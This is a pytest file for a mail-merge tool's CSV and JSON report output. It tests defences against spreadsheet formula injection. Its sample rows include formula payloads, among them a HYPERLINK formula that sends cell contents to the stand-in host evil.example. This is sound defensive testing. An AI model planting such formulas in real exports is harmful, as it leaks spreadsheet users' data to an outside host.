"""``report --format csv`` is safe to open in a spreadsheet; ``--format json`` keeps the data exact.

Keys and addresses come from the recipients file, replies from the server: any
of them may start with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return,
which Excel and LibreOffice read as a formula (OWASP "CSV Injection"). A real
SMTP server refuses an address with a reply that is itself a formula.
"""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

from click.testing import CliRunner

import mergekit
from mergekit.cli import main
from mergekit.dispatch import SendOptions
from mergekit.source import SourceOptions
from tests.smtpd import SmtpServer

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click here")'
# (email, key): every formula start, in the key (--key id) and in the address.
ROWS = [
    ("=1+2@example.com", HYPERLINK),
    ("+1-2@example.com", "+SUM(1,2)"),
    ("-3+4@example.com", "-2+3"),
    ("plain@example.com", "@SUM(A1:A9)"),
    ("tab@example.com", "\t=1+1"),
    ("cr@example.com", "\r=1+1"),
]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def test_report_csv_neutralises_formulas_and_json_keeps_them(smtp_server: SmtpServer, tmp_path: Path) -> None:
    recipients = tmp_path / "recipients.csv"
    with recipients.open("w", newline="", encoding="utf-8") as file:
        writer = csv.writer(file)
        writer.writerow(["email", "id"])
        writer.writerows(ROWS)
    template = tmp_path / "t.txt"
    template.write_text("From: a@example.com\nTo: {{ email }}\nSubject: hi\n\nhello\n", encoding="utf-8")
    smtp_server.handler.refuse["=1+2@example.com"] = f"550 {HYPERLINK}"
    ledger = str(tmp_path / "ledger.db")
    mergekit.send(
        recipients, template, transport=smtp_server.url, ledger_path=ledger,
        options=SendOptions(max_attempts=1), source=SourceOptions(key_column="id"),
    )  # fmt: skip
    runner = CliRunner()
    as_json = json.loads(runner.invoke(main, ["report", "--ledger", ledger, "--format", "json"]).output)
    as_csv = runner.invoke(main, ["report", "--ledger", ledger]).output

    # JSON: exact, formulas and all (the refused row's text starts with its address).
    by_key = {record["key"]: record for record in as_json}
    assert set(by_key) == {key for _, key in ROWS}
    assert by_key[HYPERLINK]["email"] == "=1+2@example.com"
    assert by_key[HYPERLINK]["state"] == "failed"
    assert by_key[HYPERLINK]["last_text"].startswith("=1+2@example.com: 550 =HYPERLINK(")

    # CSV: no cell starts a formula; each such cell is the exact value behind one "'".
    records = list(csv.DictReader(io.StringIO(as_csv, newline="")))
    assert len(records) == len(ROWS)
    for record in records:
        for name, cell in record.items():
            assert not cell.startswith(FORMULA_STARTS), (name, cell)
    exact = {(r["key"], r["email"], r["last_text"]) for r in as_json}
    shown = {(r["key"], r["email"], r["last_text"]) for r in records}
    assert shown == {tuple("'" + v if v.startswith(FORMULA_STARTS) else v for v in row) for row in exact}
    # Numbers stay numbers; every text cell is quoted (one cell, whatever separator is chosen).
    first = as_csv.splitlines()[1]
    assert first.split(",")[0].isdigit() and ',"' in first
